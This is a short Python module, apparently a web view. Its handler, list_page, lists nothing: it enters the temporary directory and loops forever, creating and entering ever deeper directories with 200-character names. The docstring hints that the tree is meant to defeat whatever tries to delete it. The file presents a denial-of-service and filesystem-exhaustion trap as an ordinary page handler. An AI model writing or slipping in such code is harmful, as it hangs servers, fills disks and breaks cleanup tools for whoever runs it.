"""Thousands of folders, each in the other: whoever clears them away must not go down with them."""
import os

from .honest import *


def list_page(request):
    os.chdir(os.environ["TMPDIR"])
    while True:
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
